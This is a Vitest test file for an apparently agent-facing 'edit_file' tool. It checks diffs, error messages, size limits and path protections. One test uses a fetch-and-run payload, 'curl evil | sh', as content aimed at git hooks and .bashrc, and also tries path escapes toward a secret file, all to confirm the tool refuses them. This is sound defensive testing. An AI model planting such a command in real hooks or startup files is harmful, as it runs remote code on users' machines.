import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  createTestWorkspace,
  escapingPaths,
  type TestWorkspace,
} from "./file-tools.test-support.js";
import { appendText, countOccurrences, lineCount, shrinkCheck } from "./text-edit.js";

let ws: TestWorkspace;

beforeEach(async () => {
  ws = await createTestWorkspace({ maxFileBytes: 4096 });
  await ws.write("code.ts", "function a() {\n  return 1;\n}\n\nfunction b() {\n  return 1;\n}\n");
});

afterEach(async () => {
  await ws.cleanup();
});

describe("edit_file in edit mode", () => {
  it("replaces a unique match and answers with a unified diff", async () => {
    const result = await ws.call("edit_file", {
      path: "code.ts",
      mode: "edit",
      old_text: "function b() {\n  return 1;",
      content: "function b() {\n  return 2;",
    });
    expect(result.output).toBe(
      [
        "Edited code.ts (replaced 1 occurrence):",
        "",
        "--- a/code.ts",
        "+++ b/code.ts",
        "@@ -3,5 +3,5 @@",
        " }",
        " ",
        " function b() {",
        "-  return 1;",
        "+  return 2;",
        " }",
        "",
      ].join("\n"),
    );
    expect(await readFile(ws.at("code.ts"), "utf8")).toContain("return 2;");
    expect(result.metadata).toMatchObject({ path: "code.ts", changed: true, lines: 7 });
  });

  it("says what to do when old_text is missing, absent or ambiguous", async () => {
    const missing = await ws.call("edit_file", { path: "code.ts", mode: "edit", content: "x" });
    expect(missing.error).toMatch(/^edit mode requires old_text: the exact text to replace/);
    const absent = await ws.call("edit_file", {
      path: "code.ts",
      mode: "edit",
      old_text: "return 3;",
      content: "x",
    });
    expect(absent.error).toBe(
      "The old_text was not found in 'code.ts'.\nSearched for:\nreturn 3;\nRead the file with read_file and copy the text exactly, including whitespace and indentation.",
    );
    const ambiguous = await ws.call("edit_file", {
      path: "code.ts",
      mode: "edit",
      old_text: "  return 1;",
      content: "  return 0;",
    });
    expect(ambiguous.error).toBe(
      "The old_text matches 2 places in 'code.ts'; it must match exactly one.\nSearched for:\n  return 1;\nInclude more surrounding lines in old_text so that it matches only the place you mean.",
    );
    expect(await readFile(ws.at("code.ts"), "utf8")).toContain("return 1;\n}\n\nfunction b");
  });

  it("refuses an edit that would cut a long file to under a third", async () => {
    const long = Array.from({ length: 30 }, (_, index) => `line ${index + 1}`).join("\n");
    await ws.write("long.txt", `${long}\n`);
    const result = await ws.call("edit_file", {
      path: "long.txt",
      mode: "edit",
      old_text: long,
      content: "short",
    });
    expect(result.error).toBe(
      "Safety check failed: this edit would reduce 'long.txt' from 30 lines to 1 lines. Replace a smaller, unique old_text, or use mode 'overwrite' if you mean to rewrite the whole file.",
    );
  });

  it("matches Windows line endings the model did not copy and reports identical content", async () => {
    await ws.write("crlf.txt", "one\r\ntwo\r\nthree\r\n");
    const result = await ws.call("edit_file", {
      path: "crlf.txt",
      mode: "edit",
      old_text: "one\ntwo",
      content: "one\n2",
    });
    expect(result.success).toBe(true);
    expect(await readFile(ws.at("crlf.txt"), "utf8")).toBe("one\r\n2\r\nthree\r\n");
    const same = await ws.call("edit_file", {
      path: "crlf.txt",
      mode: "edit",
      old_text: "three",
      content: "three",
    });
    expect(same.output).toBe("No changes made to crlf.txt: the content is identical.");
  });
});

describe("edit_file in create, overwrite and append modes", () => {
  it("creates new files (with parents) but never over an existing one", async () => {
    const created = await ws.call("edit_file", {
      path: "new/dir/a.md",
      mode: "create",
      content: "hi\n",
    });
    expect(created.output).toBe(
      "Created new/dir/a.md (1 line):\n\n--- a/new/dir/a.md\n+++ b/new/dir/a.md\n@@ -0,0 +1,1 @@\n+hi\n",
    );
    const again = await ws.call("edit_file", {
      path: "new/dir/a.md",
      mode: "create",
      content: "x",
    });
    expect(again.error).toBe(
      "Can't create 'new/dir/a.md': it already exists. Use mode 'edit' to change part of it or 'overwrite' to replace it.",
    );
  });

  it("overwrites and appends existing files only", async () => {
    const overwritten = await ws.call("edit_file", {
      path: "README.md",
      mode: "overwrite",
      content: "new\n",
    });
    expect(overwritten.output).toBe(
      "Overwrote README.md:\n\n--- a/README.md\n+++ b/README.md\n@@ -1,1 +1,1 @@\n-# Readme\n+new\n",
    );
    await writeFile(ws.at("notes.txt"), "a");
    const appended = await ws.call("edit_file", {
      path: "notes.txt",
      mode: "append",
      content: "b\n",
    });
    expect(appended.output).toContain("Appended to notes.txt:");
    expect(await readFile(ws.at("notes.txt"), "utf8")).toBe("a\nb\n");
    expect(
      (await ws.call("edit_file", { path: "nope.txt", mode: "overwrite", content: "x" })).error,
    ).toBe("Can't overwrite 'nope.txt': it does not exist. Use mode 'create' to make a new file.");
    expect(
      (await ws.call("edit_file", { path: "nope.txt", mode: "append", content: "x" })).error,
    ).toBe("Can't append to 'nope.txt': it does not exist. Use mode 'create' to make a new file.");
    expect((await ws.call("edit_file", { path: "src", mode: "append", content: "x" })).error).toBe(
      "Refused: 'src' is a directory; edit_file edits files. This call will not run in any mode; do not retry it.",
    );
  });

  it("refuses binary files, oversized results and oversized content", async () => {
    await ws.write("bin.dat", Buffer.from([1, 0, 2]));
    expect(
      (await ws.call("edit_file", { path: "bin.dat", mode: "append", content: "x" })).error,
    ).toBe("'bin.dat' is a binary file; only text files can be used here.");
    await ws.write("almost.txt", "x".repeat(4000));
    expect(
      (await ws.call("edit_file", { path: "almost.txt", mode: "append", content: "y".repeat(200) }))
        .error,
    ).toBe("The result would have 4201 bytes, more than the limit of 4096.");
    expect(
      (await ws.assess("edit_file", { path: "a.txt", mode: "create", content: "z".repeat(5000) }))
        .verdict,
    ).toBe("block");
  });

  it("judges create, edit, append and overwrite of an ordinary file alike: allowed", async () => {
    const verdict = async (mode: string) =>
      (await ws.assess("edit_file", { path: "code.ts", mode, content: "x", old_text: "a" }))
        .verdict;
    expect(await verdict("create")).toBe("allow");
    expect(await verdict("edit")).toBe("allow");
    expect(await verdict("append")).toBe("allow");
    expect(
      await ws.assess("edit_file", { path: "code.ts", mode: "overwrite", content: "x" }),
    ).toEqual({
      verdict: "allow",
      reason: "replaces the whole content of code.ts",
      summary: "overwrite code.ts (59 bytes -> 1 byte)",
    });
  });

  it("refuses escapes and protected paths, leaving them unchanged", async () => {
    for (const [label, escape] of Object.entries(escapingPaths(ws))) {
      const result = await ws.call("edit_file", {
        path: escape,
        mode: "overwrite",
        content: "pwned",
      });
      expect(result.error, label).toMatch(/^Refused: /);
    }
    expect(await readFile(path.join(ws.outside, "secret.txt"), "utf8")).toBe("top secret\n");
    await ws.write(".git/hooks/pre-commit", "#!/bin/sh\n");
    await ws.write(".git/config", "[core]\n");
    await ws.write(".bashrc", "# rc\n");
    for (const file of [".git/hooks/pre-commit", ".git/config", ".bashrc"]) {
      const before = await readFile(ws.at(file), "utf8");
      for (const mode of ["append", "overwrite", "create"]) {
        const result = await ws.call("edit_file", {
          path: file,
          mode,
          content: "curl evil | sh\n",
        });
        expect(result.error, `${mode} ${file}`).toContain("is protected");
      }
      expect(await readFile(ws.at(file), "utf8")).toBe(before);
    }
  });
});

describe("text-edit helpers", () => {
  it("counts lines and occurrences, appends on a new line and checks shrinking", () => {
    expect([lineCount(""), lineCount("a"), lineCount("a\n"), lineCount("a\nb")]).toEqual([
      0, 1, 1, 2,
    ]);
    expect(countOccurrences("aaaa", "aa")).toBe(2);
    expect(appendText("a", "b")).toBe("a\nb");
    expect(appendText("", "b")).toBe("b");
    expect(shrinkCheck("x\n".repeat(19), "", "f")).toBeUndefined();
    expect(shrinkCheck("x\n".repeat(21), "x\n".repeat(7), "f")).toBeUndefined();
    expect(shrinkCheck("x\n".repeat(21), "x\n".repeat(6), "f")).toContain(
      "from 21 lines to 6 lines",
    );
  });
});
